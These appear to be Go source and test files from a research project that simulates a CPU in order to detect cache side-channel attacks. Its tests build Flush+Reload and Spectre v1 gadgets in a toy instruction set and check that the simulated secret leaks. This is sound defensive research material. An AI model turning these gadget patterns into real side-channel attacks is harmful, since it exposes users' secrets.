func TestSetTraceRecorded(t *testing.T) {
	b := isa.NewBuilder("st", 0)
	buf := b.Bytes("buf", 256, false)
	b.Mov(isa.R(isa.R1), isa.Imm(int64(buf))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Mov(isa.Mem(isa.R1, 64), isa.Imm(1)).
		Clflush(isa.Mem(isa.R1, 0)).
		Hlt()
	p := b.MustBuild()
	tr, _ := run(t, p)
	var reads, writes, flushes int
	for _, e := range tr.SetTrace {
		switch e.Kind {
		case SetRead:
			reads++
		case SetWrite:
			writes++
		case SetFlush:
			flushes++
		}
	}
	if reads == 0 || writes == 0 || flushes != 1 {
		t.Errorf("set trace r/w/f = %d/%d/%d", reads, writes, flushes)
	}
}

func TestSetTraceCap(t *testing.T) {
	cfg := DefaultConfig()
	cfg.MaxSetTrace = 5
	b := isa.NewBuilder("cap", 0)
	buf := b.Bytes("buf", 4096, false)
	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Label("loop").
		Mov(isa.R(isa.R1), isa.MemIdx(isa.R2, isa.R0, 1, int64(buf))).
		Add(isa.R(isa.R0), isa.Imm(64)).
		Cmp(isa.R(isa.R0), isa.Imm(4096)).
		Jl("loop").
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(cfg, p, nil)
	tr := m.Run()
	if len(tr.SetTrace) != 5 {
		t.Errorf("set trace = %d entries, want capped 5", len(tr.SetTrace))
	}
}

func TestMaxRetiredBudget(t *testing.T) {
	cfg := DefaultConfig()
	cfg.MaxRetired = 100
	b := isa.NewBuilder("inf", 0)
	b.Label("spin").Jmp("spin")
	p := b.MustBuild()
	m, _ := NewMachine(cfg, p, nil)
	tr := m.Run()
	if tr.Halted {
		t.Error("infinite loop cannot halt")
	}
	if tr.Retired < 100 || tr.Retired > 100+uint64(cfg.Quantum) {
		t.Errorf("retired = %d", tr.Retired)
	}
}

func TestFallingOffProgramHalts(t *testing.T) {
	b := isa.NewBuilder("off", 0)
	b.Nop() // no HLT: execution falls off the end
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	tr := m.Run()
	if tr.Retired != 1 {
		t.Errorf("retired = %d", tr.Retired)
	}
}

func TestNilMonitoredProgram(t *testing.T) {
	if _, err := NewMachine(DefaultConfig(), nil, nil); err == nil {
		t.Error("nil program must fail")
	}
}

func TestVictimInterleaving(t *testing.T) {
	// Victim writes a flag the attacker polls; proves both processes run
	// in one address space with shared memory.
	flagAddr := uint64(0x30000000)

	vb := isa.NewBuilder("victim", 0x800000)
	vb.Mov(isa.R(isa.R1), isa.Imm(int64(flagAddr))).
		Mov(isa.Mem(isa.R1, 0), isa.Imm(7)).
		Label("spin").
		Jmp("spin")
	victim := vb.MustBuild()

	ab := isa.NewBuilder("attacker", 0x400000)
	ab.Mov(isa.R(isa.R1), isa.Imm(int64(flagAddr))).
		Label("poll").
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Cmp(isa.R(isa.R0), isa.Imm(7)).
		Jne("poll").
		Hlt()
	attacker := ab.MustBuild()

	m, err := NewMachine(DefaultConfig(), attacker, victim)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if !tr.Halted {
		t.Fatal("attacker never saw the victim's write")
	}
}

// The flagship test: a full Flush+Reload attack recovers the victim's
// secret-dependent access pattern through timing alone.
func TestFlushReloadRecoversSecret(t *testing.T) {
	const (
		lineSize  = 64
		numLines  = 16
		secret    = 11
		threshold = 100
	)
	sharedBase := uint64(0x20000000)

	// Victim: repeatedly touches shared[secret*lineSize].
	vb := isa.NewBuilder("victim", 0x800000)
	vb.Mov(isa.R(isa.R1), isa.Imm(int64(sharedBase+secret*lineSize))).
		Label("loop").
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Jmp("loop")
	victim := vb.MustBuild()

	// Attacker: for each line: flush, wait (spin), time a reload, store
	// latency to a results array.
	resBase := uint64(0x28000000)
	ab := isa.NewBuilder("attacker", 0x400000)
	ab.Mov(isa.R(isa.R2), isa.Imm(0)) // line index
	ab.Label("lines")
	// flush line: r1 = sharedBase + r2*lineSize
	ab.Mov(isa.R(isa.R1), isa.R(isa.R2)).
		Shl(isa.R(isa.R1), isa.Imm(6)).
		Add(isa.R(isa.R1), isa.Imm(int64(sharedBase))).
		Clflush(isa.Mem(isa.R1, 0))
	// wait loop to give the victim time to run
	ab.Mov(isa.R(isa.R3), isa.Imm(40)).
		Label("wait").
		Dec(isa.R(isa.R3)).
		Jne("wait")
	// timed reload
	ab.Rdtscp(isa.R4).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Rdtscp(isa.R5).
		Sub(isa.R(isa.R5), isa.R(isa.R4)).
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(resBase))).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R5))
	// next line
	ab.Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(numLines)).
		Jl("lines").
		Hlt()
	attacker := ab.MustBuild()

	m, err := NewMachine(DefaultConfig(), attacker, victim)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if !tr.Halted {
		t.Fatal("attacker did not finish")
	}
	// Read the latency table back out of memory and recover the secret.
	best, bestLat := -1, uint64(1<<62)
	for i := 0; i < numLines; i++ {
		lat := m.Memory().Load64(resBase + uint64(i*8))
		if lat < bestLat {
			best, bestLat = i, lat
		}
	}
	if best != secret {
		t.Errorf("flush+reload recovered line %d (lat=%d), want %d", best, bestLat, secret)
	}
	if bestLat >= threshold {
		t.Errorf("fastest reload (%d cycles) not below threshold", bestLat)
	}
}

// Spectre v1: a bounds check is trained, then an out-of-bounds index
// leaks through a transient secret-dependent load into the probe array.
func TestSpectreTransientLeak(t *testing.T) {
	const (
		arraySize = 16
		secret    = 5 // value stored out of bounds
	)
	b := isa.NewBuilder("spectre", 0x400000)
	arr := b.Bytes("arr", arraySize*8, false)
	// secretAddr lives right past the array.
	secretAddr := arr + arraySize*8
	probe := b.Bytes("probe", 64*64, false) // 64 lines
	sizeVar := b.Bytes("size", 8, false)

	// size = arraySize (in elements), loaded from memory every time so
	// the comparison is slow enough to speculate past.
	b.Mov(isa.R(isa.R9), isa.Imm(int64(sizeVar))).
		Mov(isa.Mem(isa.R9, 0), isa.Imm(arraySize))

	// Gadget: if (x < size) y = probe[arr[x]*64]
	gadget := func(trainIdx int64) {
		b.Mov(isa.R(isa.R1), isa.Imm(trainIdx)). // x
								Mov(isa.R(isa.R2), isa.Mem(isa.R9, 0)). // size (memory load)
								Cmp(isa.R(isa.R1), isa.R(isa.R2)).
								Jae("skip" + fmtInt(trainIdx))
		b.Mov(isa.R(isa.R3), isa.MemIdx(isa.RegNone, isa.R1, 8, int64(arr))). // arr[x]
											And(isa.R(isa.R3), isa.Imm(63)).
											Shl(isa.R(isa.R3), isa.Imm(6)).                                       // *64
											Mov(isa.R(isa.R4), isa.MemIdx(isa.RegNone, isa.R3, 1, int64(probe))). // probe[...]
											Label("skip" + fmtInt(trainIdx))
	}
	// Train in-bounds 8 times (x=0..7), flush size + probe, then attack
	// with x = arraySize (out of bounds -> reads secretAddr).
	for i := int64(0); i < 8; i++ {
		gadget(i)
	}
	// Flush the probe array and size so speculation has time to run.
	for i := int64(0); i < 64; i++ {
		b.Clflush(isa.MemAbs(probe + uint64(i*64)))
	}
	b.Clflush(isa.Mem(isa.R9, 0))
	gadget(arraySize) // out-of-bounds transient access
	b.Hlt()
	p := b.MustBuild()

	m, err := NewMachine(DefaultConfig(), p, nil)
	if err != nil {
		t.Fatal(err)
	}
	// Plant the secret just past the array.
	m.Memory().Store64(secretAddr, secret)
	tr := m.Run()
	if tr.Transient == 0 {
		t.Fatal("no transient instructions executed; Spectre impossible")
	}
	// The probe line for the secret must now be cached although it was
	// flushed and never architecturally accessed after the flush.
	leakLine := probe + secret*64
	if !m.Hierarchy().Cached(leakLine) {
		t.Error("secret-dependent probe line not cached: no transient leak")
	}
	// And competing lines must not all be cached.
	cachedCount := 0
	for i := uint64(0); i < 64; i++ {
		if m.Hierarchy().Cached(probe + i*64) {
			cachedCount++
		}
	}
	if cachedCount > 8 {
		t.Errorf("%d probe lines cached; leak not selective", cachedCount)
	}
}

func fmtInt(i int64) string {
	return string(rune('a' + i%26))
}

func TestSpeculationDisabled(t *testing.T) {
	cfg := DefaultConfig()
	cfg.SpecWindow = 0
	b := isa.NewBuilder("nospec", 0)
	b.Mov(isa.R(isa.R0), isa.Imm(1)).
		Cmp(isa.R(isa.R0), isa.Imm(2)).
		Jl("x").
		Label("x").
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(cfg, p, nil)
	tr := m.Run()
	if tr.Transient != 0 {
		t.Error("speculation must be off")
	}
}

func TestIndirectJump(t *testing.T) {
	b := isa.NewBuilder("ind", 0x100)
	b.Mov(isa.R(isa.R0), isa.Imm(0)). // placeholder, patched below
						Jmp("set")
	b.Label("target").
		Mov(isa.R(isa.R1), isa.Imm(123)).
		Hlt()
	b.Label("set").
		Mov(isa.R(isa.R0), isa.Imm(int64(b.PC()))). // dummy to learn addr
		Hlt()
	p := b.MustBuild()
	// Build a cleaner version: jump through a register.
	b2 := isa.NewBuilder("ind2", 0x100)
	b2.Mov(isa.R(isa.R0), isa.Imm(int64(0x100+3*4))). // address of "target"
								Raw(isa.JMP, isa.R(isa.R0), isa.None()).
								Nop(). // skipped
								Mov(isa.R(isa.R1), isa.Imm(55)).
								Hlt()
	p2 := b2.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p2, nil)
	m.Run()
	if m.procs[0].regs[isa.R1] != 55 {
		t.Errorf("indirect jump failed, r1=%d", m.procs[0].regs[isa.R1])
	}
	_ = p
}

func TestMemLinesOfMissingPC(t *testing.T) {
	tr := newTrace(0, 0, false, 0)
	if got := tr.MemLinesOf(0x123); got != nil {
		t.Errorf("MemLinesOf missing = %v", got)
	}
}
