package exec

import (
	"sort"

	"repro/internal/hpc"
)

// AddrRecord aggregates everything observed about one instruction
// address of the monitored process: how often it retired, when it first
// did, and which memory lines it touched or flushed. Together with the
// HPC bank this is the runtime information Section III-A of the paper
// collects via perf and Intel PT.
type AddrRecord struct {
	ExecCount  uint64
	FirstCycle uint64
	// MemLines holds line-aligned data addresses read or written by the
	// instruction (architecturally or transiently).
	MemLines map[uint64]struct{}
	// FlushLines holds line-aligned addresses the instruction flushed.
	FlushLines map[uint64]struct{}
}

// SetAccessKind tags entries of the cache-set trace.
type SetAccessKind uint8

// Cache-set trace entry kinds.
const (
	SetRead SetAccessKind = iota
	SetWrite
	SetFlush
)

// SetAccess is one entry of the chronological cache-set access trace the
// SCADET baseline consumes.
type SetAccess struct {
	Cycle uint64
	Set   int    // LLC set index
	Line  uint64 // line-aligned address
	Kind  SetAccessKind
	PC    uint64
}

// WindowSample is one fixed-width time window of HPC activity; the ML
// baselines build their feature vectors from sequences of these.
type WindowSample struct {
	StartCycle uint64
	Counts     hpc.Counts
}

// EventKind tags entries of the chronological event log.
type EventKind uint8

// Event log entry kinds. They mirror the four trace hooks the modeling
// pipeline consumes — instruction retirement, memory-line touches,
// flush-line touches and HPC event firings. The cache-set trace is not
// part of the log: it exists for the SCADET baseline only and has its
// own chronological record (SetTrace).
const (
	EvRetire EventKind = iota
	EvMem
	EvFlush
	EvHPC
)

// Event is one entry of the chronological event log recorded when
// Config.RecordEvents is set. Replaying a prefix (or any cycle slice) of
// the log through a TraceBuilder reconstructs the Trace state the
// modeling pipeline would have seen at that point — the mechanism the
// sliding-window detector (internal/window) uses to model mid-trace.
//
// Ordering contract: Cycle is NONDECREASING in log order — the machine's
// virtual clock never runs backwards — but duplicates are possible.
// Overlapped latencies are integer-divided (fetch latency /4, transient
// load latency /2) and can contribute zero cycles, so several
// consecutive events may share one Cycle value. Consumers slicing the
// log by time must therefore use half-open cycle intervals
// [start, end) and must never assume strict monotonicity.
// TestEventLogOrdering pins this contract.
type Event struct {
	Kind  EventKind
	Cycle uint64
	PC    uint64
	Line  uint64    // line-aligned address (EvMem, EvFlush)
	HPC   hpc.Event // fired counter (EvHPC)
}

// Trace is the complete runtime record of the monitored process.
type Trace struct {
	Bank     *hpc.Bank
	ByAddr   map[uint64]*AddrRecord
	SetTrace []SetAccess
	Windows  []WindowSample

	// Events is the chronological event log, populated only when the
	// machine ran with Config.RecordEvents. See Event for the ordering
	// contract.
	Events []Event
	// EventsTruncated reports that the log hit Config.MaxEvents and
	// stopped recording; a truncated log must not be replayed as if it
	// were complete.
	EventsTruncated bool

	Retired     uint64 // architecturally retired instructions
	Transient   uint64 // speculatively executed (squashed) instructions
	Cycles      uint64 // total virtual cycles at the end of the run
	Halted      bool   // monitored process reached HLT
	WindowWidth uint64

	maxSetTrace  int
	curWindow    WindowSample
	recordEvents bool
	maxEvents    int
}

// newTrace builds an empty trace with the given sampling parameters.
func newTrace(windowWidth uint64, maxSetTrace int, recordEvents bool, maxEvents int) *Trace {
	if windowWidth == 0 {
		windowWidth = 2048
	}
	return &Trace{
		Bank:         hpc.NewBank(),
		ByAddr:       make(map[uint64]*AddrRecord),
		WindowWidth:  windowWidth,
		maxSetTrace:  maxSetTrace,
		recordEvents: recordEvents,
		maxEvents:    maxEvents,
	}
}

// event appends one entry to the chronological log, honouring the cap.
func (t *Trace) event(kind EventKind, cycle, pc, line uint64, e hpc.Event) {
	if !t.recordEvents || t.EventsTruncated {
		return
	}
	if t.maxEvents > 0 && len(t.Events) >= t.maxEvents {
		t.EventsTruncated = true
		return
	}
	t.Events = append(t.Events, Event{Kind: kind, Cycle: cycle, PC: pc, Line: line, HPC: e})
}

func (t *Trace) record(pc uint64, cycle uint64) *AddrRecord {
	r := t.ByAddr[pc]
	if r == nil {
		r = &AddrRecord{
			FirstCycle: cycle,
			MemLines:   make(map[uint64]struct{}),
			FlushLines: make(map[uint64]struct{}),
		}
		t.ByAddr[pc] = r
	}
	return r
}

func (t *Trace) retire(pc uint64, cycle uint64) {
	r := t.record(pc, cycle)
	r.ExecCount++
	t.Retired++
	t.event(EvRetire, cycle, pc, 0, 0)
}

func (t *Trace) memLine(pc, lineAddr uint64, cycle uint64) {
	t.record(pc, cycle).MemLines[lineAddr] = struct{}{}
	t.event(EvMem, cycle, pc, lineAddr, 0)
}

func (t *Trace) flushLine(pc, lineAddr uint64, cycle uint64) {
	t.record(pc, cycle).FlushLines[lineAddr] = struct{}{}
	t.event(EvFlush, cycle, pc, lineAddr, 0)
}

func (t *Trace) setAccess(cycle uint64, set int, line uint64, kind SetAccessKind, pc uint64) {
	if t.maxSetTrace > 0 && len(t.SetTrace) >= t.maxSetTrace {
		return
	}
	t.SetTrace = append(t.SetTrace, SetAccess{Cycle: cycle, Set: set, Line: line, Kind: kind, PC: pc})
}

// fire records an HPC event both in the bank and the current window.
func (t *Trace) fire(e hpc.Event, pc uint64, cycle uint64) {
	t.Bank.Fire(e, pc)
	t.curWindow.Counts[e]++
	t.event(EvHPC, cycle, pc, 0, e)
}

// tickWindows advances window sampling to the given cycle.
func (t *Trace) tickWindows(cycle uint64) {
	for cycle >= t.curWindow.StartCycle+t.WindowWidth {
		t.Windows = append(t.Windows, t.curWindow)
		t.curWindow = WindowSample{StartCycle: t.curWindow.StartCycle + t.WindowWidth}
	}
}

// finish flushes the trailing partial window.
func (t *Trace) finish(cycle uint64) {
	t.Cycles = cycle
	if t.curWindow.Counts.Total() > 0 {
		t.Windows = append(t.Windows, t.curWindow)
	}
}

// Addrs returns every recorded instruction address in ascending order.
func (t *Trace) Addrs() []uint64 {
	out := make([]uint64, 0, len(t.ByAddr))
	for a := range t.ByAddr {
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// TraceBuilder reconstructs a Trace by replaying entries of an event
// log through the same hooks the machine drives, so the rebuilt
// Bank/ByAddr state is bit-identical to what a live run restricted to
// those events would have produced. The sliding-window detector feeds
// it the events of one window to obtain a modellable per-window trace.
//
// The rebuilt trace covers exactly what the modeling pipeline
// (model.BuildFromTrace) consumes: the HPC bank, the per-address
// records and the cycle count. SetTrace, Windows and the
// Retired/Transient totals of the original run are NOT reconstructed —
// they feed the baselines, not CST-BBS modeling.
type TraceBuilder struct {
	t *Trace
}

// NewTraceBuilder returns an empty builder.
func NewTraceBuilder() *TraceBuilder {
	return &TraceBuilder{t: newTrace(0, 0, false, 0)}
}

// Apply replays one event. Events must be applied in log order (cycles
// nondecreasing); Apply does not re-sort.
func (b *TraceBuilder) Apply(ev Event) {
	switch ev.Kind {
	case EvRetire:
		b.t.retire(ev.PC, ev.Cycle)
	case EvMem:
		b.t.memLine(ev.PC, ev.Line, ev.Cycle)
	case EvFlush:
		b.t.flushLine(ev.PC, ev.Line, ev.Cycle)
	case EvHPC:
		b.t.fire(ev.HPC, ev.PC, ev.Cycle)
	}
}

// Trace finalizes and returns the reconstructed trace. cycles becomes
// Trace.Cycles (use the end of the replayed interval). The builder must
// not be reused afterwards.
func (b *TraceBuilder) Trace(cycles uint64) *Trace {
	b.t.Cycles = cycles
	return b.t
}

// MemLinesOf returns the sorted accessed (and flushed) line addresses of
// the instruction at pc. Flushed lines are included because the paper's
// overlap analysis collects "accessed memory addresses (including
// flushed addresses)".
func (t *Trace) MemLinesOf(pc uint64) []uint64 {
	r := t.ByAddr[pc]
	if r == nil {
		return nil
	}
	out := make([]uint64, 0, len(r.MemLines)+len(r.FlushLines))
	for a := range r.MemLines {
		out = append(out, a)
	}
	for a := range r.FlushLines {
		if _, dup := r.MemLines[a]; !dup {
			out = append(out, a)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}
