package exec

import (
	"sort"

	"repro/internal/hpc"
)

// AddrRecord aggregates everything observed about one instruction
// address of the monitored process: how often it retired, when it first
// did, and which memory lines it touched or flushed. Together with the
// HPC bank this is the runtime information Section III-A of the paper
// collects via perf and Intel PT.
type AddrRecord struct {
	ExecCount  uint64
	FirstCycle uint64
	// MemLines holds line-aligned data addresses read or written by the
	// instruction (architecturally or transiently).
	MemLines map[uint64]struct{}
	// FlushLines holds line-aligned addresses the instruction flushed.
	FlushLines map[uint64]struct{}
}

// SetAccessKind tags entries of the cache-set trace.
type SetAccessKind uint8

// Cache-set trace entry kinds.
const (
	SetRead SetAccessKind = iota
	SetWrite
	SetFlush
)

// SetAccess is one entry of the chronological cache-set access trace the
// SCADET baseline consumes.
type SetAccess struct {
	Cycle uint64
	Set   int    // LLC set index
	Line  uint64 // line-aligned address
	Kind  SetAccessKind
	PC    uint64
}

// WindowSample is one fixed-width time window of HPC activity; the ML
// baselines build their feature vectors from sequences of these.
type WindowSample struct {
	StartCycle uint64
	Counts     hpc.Counts
}

// Trace is the complete runtime record of the monitored process.
type Trace struct {
	Bank     *hpc.Bank
	ByAddr   map[uint64]*AddrRecord
	SetTrace []SetAccess
	Windows  []WindowSample

	Retired     uint64 // architecturally retired instructions
	Transient   uint64 // speculatively executed (squashed) instructions
	Cycles      uint64 // total virtual cycles at the end of the run
	Halted      bool   // monitored process reached HLT
	WindowWidth uint64

	maxSetTrace int
	curWindow   WindowSample
}

// newTrace builds an empty trace with the given sampling parameters.
func newTrace(windowWidth uint64, maxSetTrace int) *Trace {
	if windowWidth == 0 {
		windowWidth = 2048
	}
	return &Trace{
		Bank:        hpc.NewBank(),
		ByAddr:      make(map[uint64]*AddrRecord),
		WindowWidth: windowWidth,
		maxSetTrace: maxSetTrace,
	}
}

func (t *Trace) record(pc uint64, cycle uint64) *AddrRecord {
	r := t.ByAddr[pc]
	if r == nil {
		r = &AddrRecord{
			FirstCycle: cycle,
			MemLines:   make(map[uint64]struct{}),
			FlushLines: make(map[uint64]struct{}),
		}
		t.ByAddr[pc] = r
	}
	return r
}

func (t *Trace) retire(pc uint64, cycle uint64) {
	r := t.record(pc, cycle)
	r.ExecCount++
	t.Retired++
}

func (t *Trace) memLine(pc, lineAddr uint64, cycle uint64) {
	t.record(pc, cycle).MemLines[lineAddr] = struct{}{}
}

func (t *Trace) flushLine(pc, lineAddr uint64, cycle uint64) {
	t.record(pc, cycle).FlushLines[lineAddr] = struct{}{}
}

func (t *Trace) setAccess(cycle uint64, set int, line uint64, kind SetAccessKind, pc uint64) {
	if t.maxSetTrace > 0 && len(t.SetTrace) >= t.maxSetTrace {
		return
	}
	t.SetTrace = append(t.SetTrace, SetAccess{Cycle: cycle, Set: set, Line: line, Kind: kind, PC: pc})
}

// fire records an HPC event both in the bank and the current window.
func (t *Trace) fire(e hpc.Event, pc uint64) {
	t.Bank.Fire(e, pc)
	t.curWindow.Counts[e]++
}

// tickWindows advances window sampling to the given cycle.
func (t *Trace) tickWindows(cycle uint64) {
	for cycle >= t.curWindow.StartCycle+t.WindowWidth {
		t.Windows = append(t.Windows, t.curWindow)
		t.curWindow = WindowSample{StartCycle: t.curWindow.StartCycle + t.WindowWidth}
	}
}

// finish flushes the trailing partial window.
func (t *Trace) finish(cycle uint64) {
	t.Cycles = cycle
	if t.curWindow.Counts.Total() > 0 {
		t.Windows = append(t.Windows, t.curWindow)
	}
}

// Addrs returns every recorded instruction address in ascending order.
func (t *Trace) Addrs() []uint64 {
	out := make([]uint64, 0, len(t.ByAddr))
	for a := range t.ByAddr {
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// MemLinesOf returns the sorted accessed (and flushed) line addresses of
// the instruction at pc. Flushed lines are included because the paper's
// overlap analysis collects "accessed memory addresses (including
// flushed addresses)".
func (t *Trace) MemLinesOf(pc uint64) []uint64 {
	r := t.ByAddr[pc]
	if r == nil {
		return nil
	}
	out := make([]uint64, 0, len(r.MemLines)+len(r.FlushLines))
	for a := range r.MemLines {
		out = append(out, a)
	}
	for a := range r.FlushLines {
		if _, dup := r.MemLines[a]; !dup {
			out = append(out, a)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}
