package exec

// BranchPredictor is a classic 2-bit-saturating-counter direction
// predictor with a direct-mapped branch target buffer. Training it and
// then diverging is exactly how the Spectre-v1 PoCs in internal/attacks
// steer transient execution past their bounds checks.
type BranchPredictor struct {
	counters []uint8 // 2-bit saturating counters, weakly-taken init
	btb      map[uint64]uint64
	mask     uint64
}

// NewBranchPredictor builds a predictor with the given table size (a
// power of two; 512 when size <= 0).
func NewBranchPredictor(size int) *BranchPredictor {
	if size <= 0 {
		size = 512
	}
	// Round up to a power of two.
	n := 1
	for n < size {
		n <<= 1
	}
	c := make([]uint8, n)
	for i := range c {
		c[i] = 1 // weakly not-taken
	}
	return &BranchPredictor{
		counters: c,
		btb:      make(map[uint64]uint64),
		mask:     uint64(n - 1),
	}
}

func (bp *BranchPredictor) idx(pc uint64) uint64 { return (pc >> 2) & bp.mask }

// PredictTaken returns the predicted direction for the branch at pc.
func (bp *BranchPredictor) PredictTaken(pc uint64) bool {
	return bp.counters[bp.idx(pc)] >= 2
}

// PredictTarget returns the BTB target for pc and whether one exists.
func (bp *BranchPredictor) PredictTarget(pc uint64) (uint64, bool) {
	t, ok := bp.btb[pc]
	return t, ok
}

// Update trains the predictor with the resolved outcome of the branch at
// pc. target is the address the branch went to when taken. It returns
// mispredicted (direction was wrong) and btbMiss (taken branch whose
// target was absent from the BTB — the Branch Load Miss event).
func (bp *BranchPredictor) Update(pc uint64, taken bool, target uint64) (mispredicted, btbMiss bool) {
	i := bp.idx(pc)
	predicted := bp.counters[i] >= 2
	mispredicted = predicted != taken
	if taken {
		if bp.counters[i] < 3 {
			bp.counters[i]++
		}
		if _, ok := bp.btb[pc]; !ok {
			btbMiss = true
		}
		bp.btb[pc] = target
	} else if bp.counters[i] > 0 {
		bp.counters[i]--
	}
	return mispredicted, btbMiss
}

// UpdateIndirect records the resolved target of an indirect branch at
// pc. It returns the previously predicted target (the BTB entry before
// the update) and whether one existed — when it existed and differs from
// the actual target, the front end speculated down the stale target
// (the Spectre-v2 branch-target-injection window).
func (bp *BranchPredictor) UpdateIndirect(pc, target uint64) (predicted uint64, hadPrediction bool) {
	prev, ok := bp.btb[pc]
	bp.btb[pc] = target
	return prev, ok
}

// Reset restores the initial weakly-not-taken state and clears the BTB.
func (bp *BranchPredictor) Reset() {
	for i := range bp.counters {
		bp.counters[i] = 1
	}
	bp.btb = make(map[uint64]uint64)
}
