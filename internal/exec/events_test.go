package exec_test

// Event-log regression tests: the sliding-window detector
// (internal/window) slices the chronological event log by cycle, so the
// log's ordering contract — cycles nondecreasing, duplicates allowed —
// and its replay fidelity are load-bearing. These tests pin both on the
// full PoC corpus plus a benign program.

import (
	"reflect"
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/exec"
	"repro/internal/isa"
)

// eventCases returns named (program, victim) pairs covering every attack
// family plus a benign crypto workload.
func eventCases(t *testing.T) map[string][2]*isa.Program {
	t.Helper()
	p := attacks.DefaultParams()
	cases := make(map[string][2]*isa.Program)
	for _, poc := range []attacks.PoC{
		attacks.FlushReloadIAIK(p),
		attacks.PrimeProbeIAIK(p),
		attacks.SpectreFRIdea(p),
		attacks.SpectrePPTrippel(p),
	} {
		cases[poc.Name] = [2]*isa.Program{poc.Program, poc.Victim}
	}
	tmpl := benign.Templates(benign.KindCrypto)[0]
	prog, err := benign.Generate(benign.Spec{Kind: benign.KindCrypto, Template: tmpl, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	cases[prog.Name] = [2]*isa.Program{prog, nil}
	return cases
}

func recordedRun(t *testing.T, prog, victim *isa.Program) *exec.Trace {
	t.Helper()
	cfg := exec.DefaultConfig()
	cfg.RecordEvents = true
	m, err := exec.NewMachine(cfg, prog, victim)
	if err != nil {
		t.Fatal(err)
	}
	return m.Run()
}

// TestEventLogOrdering pins the ordering contract documented on
// exec.Event: cycles never decrease in log order, but duplicates are
// legal (integer-divided overlap latencies can contribute zero cycles).
// The same holds for the chronological cache-set trace.
func TestEventLogOrdering(t *testing.T) {
	for name, pair := range eventCases(t) {
		t.Run(name, func(t *testing.T) {
			tr := recordedRun(t, pair[0], pair[1])
			if len(tr.Events) == 0 {
				t.Fatal("no events recorded")
			}
			if tr.EventsTruncated {
				t.Fatal("event log truncated under default cap")
			}
			dupes := false
			for i := 1; i < len(tr.Events); i++ {
				prev, cur := tr.Events[i-1].Cycle, tr.Events[i].Cycle
				if cur < prev {
					t.Fatalf("event %d: cycle %d < predecessor %d", i, cur, prev)
				}
				if cur == prev {
					dupes = true
				}
			}
			if !dupes {
				// Not a failure — but the contract says duplicates exist, and
				// every corpus program produces some (zero-latency overlapped
				// accesses). If this starts firing, the contract comment on
				// exec.Event needs revisiting.
				t.Log("no duplicate cycles observed; ordering contract may be stale")
			}
			for i := 1; i < len(tr.SetTrace); i++ {
				if tr.SetTrace[i].Cycle < tr.SetTrace[i-1].Cycle {
					t.Fatalf("set trace %d: cycle %d < predecessor %d",
						i, tr.SetTrace[i].Cycle, tr.SetTrace[i-1].Cycle)
				}
			}
			if last := tr.Events[len(tr.Events)-1].Cycle; last > tr.Cycles {
				t.Fatalf("last event cycle %d past end of trace %d", last, tr.Cycles)
			}
		})
	}
}

// TestEventLogReplayReconstructs verifies that replaying the full event
// log through a TraceBuilder reproduces exactly the modeling-relevant
// trace state — per-address records, the HPC bank and the retire count —
// which is what lets the window detector model arbitrary log slices.
func TestEventLogReplayReconstructs(t *testing.T) {
	for name, pair := range eventCases(t) {
		t.Run(name, func(t *testing.T) {
			tr := recordedRun(t, pair[0], pair[1])
			b := exec.NewTraceBuilder()
			for _, ev := range tr.Events {
				b.Apply(ev)
			}
			got := b.Trace(tr.Cycles)
			if got.Retired != tr.Retired {
				t.Errorf("retired = %d, want %d", got.Retired, tr.Retired)
			}
			if got.Cycles != tr.Cycles {
				t.Errorf("cycles = %d, want %d", got.Cycles, tr.Cycles)
			}
			if !reflect.DeepEqual(got.ByAddr, tr.ByAddr) {
				t.Error("ByAddr mismatch after replay")
			}
			if !reflect.DeepEqual(got.Bank.Global(), tr.Bank.Global()) {
				t.Errorf("global counts = %v, want %v", got.Bank.Global(), tr.Bank.Global())
			}
			if !reflect.DeepEqual(got.Bank.HPCValueByAddr(), tr.Bank.HPCValueByAddr()) {
				t.Error("per-address HPC values mismatch after replay")
			}
		})
	}
}

// TestEventLogOffByDefault: recording costs memory, so it must be
// strictly opt-in.
func TestEventLogOffByDefault(t *testing.T) {
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	m, err := exec.NewMachine(exec.DefaultConfig(), poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if tr.Events != nil {
		t.Fatalf("events recorded without RecordEvents: %d", len(tr.Events))
	}
	if tr.EventsTruncated {
		t.Fatal("truncation flagged with recording off")
	}
}

// TestEventLogTruncation: overflowing MaxEvents must stop recording and
// raise the flag rather than grow without bound or drop silently.
func TestEventLogTruncation(t *testing.T) {
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	cfg := exec.DefaultConfig()
	cfg.RecordEvents = true
	cfg.MaxEvents = 16
	m, err := exec.NewMachine(cfg, poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if !tr.EventsTruncated {
		t.Fatal("expected truncation flag")
	}
	if len(tr.Events) > 16 {
		t.Fatalf("log grew past cap: %d", len(tr.Events))
	}
}
