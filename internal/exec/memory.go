package exec

// Memory is a sparse, page-granular byte-addressable physical memory.
// Attacker and victim programs live in one flat physical address space,
// which is how shared library pages (Flush+Reload) and set-index aliasing
// (Prime+Probe) arise naturally.
type Memory struct {
	pages map[uint64][]byte
}

const pageShift = 12
const pageSize = 1 << pageShift

// NewMemory returns an empty memory.
